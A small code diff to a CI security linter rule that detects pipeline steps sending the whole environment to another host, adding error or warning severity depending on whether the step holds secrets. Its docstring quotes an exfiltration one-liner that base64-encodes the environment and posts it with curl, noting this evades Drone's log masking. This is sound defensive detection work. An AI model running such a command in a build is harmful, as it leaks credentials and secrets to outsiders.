@@ -20,6 +20,8 @@ class EnvironmentSentAway(Rule):
     `env | base64 | curl -d @- https://...` is how secrets are stolen from builds: the environment holds every secret that the step asks for, and the clone's credentials in private
     repositories. Encoding hides them from Drone's masking, which looks for the exact text in the log only.
 
+    It is an error in a step that asks for a secret, and a warning in others.
+
     Remove the command, and replace the secrets that the step had: they have to be considered known to others.
     """
 
@@ -73,6 +75,7 @@ class EnvironmentSentAway(Rule):
                 yield self.finding(
                     script.place(command.start, command.end),
                     f"the whole environment of {step.title} is sent to another host{secrets}",
+                    severity=Severity.ERROR if step.secrets else Severity.WARNING,
                 )
 
 
